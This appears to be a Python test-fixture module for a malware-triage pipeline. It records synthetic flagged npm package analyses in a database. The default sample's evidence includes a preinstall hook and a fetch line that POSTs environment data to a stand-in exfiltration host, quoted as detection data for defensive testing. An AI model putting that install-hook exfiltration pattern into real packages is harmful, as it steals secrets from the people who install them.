"""Realistic triage data recorded as the pipeline records it (``pipeline.ingest``).

Synthetic: the evidence imitates what the engine reports on typical malware
(install hooks, exfiltration URLs), never corpus code.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from datetime import UTC, datetime
from hashlib import sha256
from typing import Any

from sqlalchemy.orm import Session

from threatfeed.analysis import Analysis, Location
from threatfeed.pipeline.ingest import ArchiveRecord, record_analysis
from threatfeed.store import Database

PUBLISHED = datetime(2024, 5, 6, 7, 8, 9, tzinfo=UTC)

HOOK_INDICATORS: dict[str, Any] = {
    "npm_hooks_rule": ["node index.js"],
    "suspicious_url_references_rule": [
        {"file": "package/index.js", "urls": ["https://exfil.example.invalid/c"]}
    ],
}


@dataclass(frozen=True)
class Sample:
    name: str
    version: str = "1.0.0"
    ecosystem: str = "npm"
    score: float = 0.9
    flagged: bool = True
    indicators: dict[str, Any] = field(default_factory=lambda: dict(HOOK_INDICATORS))
    files: tuple[tuple[str, int], ...] = (
        ("package/package.json", 312),
        ("package/index.js", 2345),
        ("package/README.md", 410),
    )
    archive: str | None = None
    engine_version: str = "test-1"
    published_at: datetime | None = PUBLISHED
    locations: tuple[Location, ...] = (
        Location("npm_hooks_rule", "package/package.json", 6, '"preinstall": "node index.js"'),
        Location(
            "suspicious_url_references_rule",
            "package/index.js",
            12,
            "fetch('https://exfil.example.invalid/c', {method: 'POST', body: env})",
        ),
    )

    @property
    def filename(self) -> str:
        return self.archive or f"{self.name.replace('/', '-')}-{self.version}.tgz"


def record(session: Session, sample: Sample) -> int:
    """Records one analysed archive of the sample; returns the package id."""
    digest = sha256(f"{sample.ecosystem}/{sample.filename}".encode()).hexdigest()
    archive = ArchiveRecord(
        ecosystem=sample.ecosystem,
        name=sample.name,
        version=sample.version,
        filename=sample.filename,
        sha256=digest,
        size=sum(size for _, size in sample.files),
        published_at=sample.published_at,
        url=f"https://registry.example.invalid/{sample.name}/-/{sample.filename}",
    )
    analysis = Analysis(
        ecosystem=sample.ecosystem,
        name=sample.name,
        version=sample.version,
        sha256=digest,
        score=sample.score,
        flagged=sample.flagged,
        indicators=sample.indicators,
        locations=sample.locations,
        errors=(),
        files=sample.files,
        engine_version=sample.engine_version,
    )
    return record_analysis(session, archive, analysis).package_id


def add(database: Database, *samples: Sample) -> list[int]:
    with database.session() as session:
        return [record(session, sample) for sample in samples]
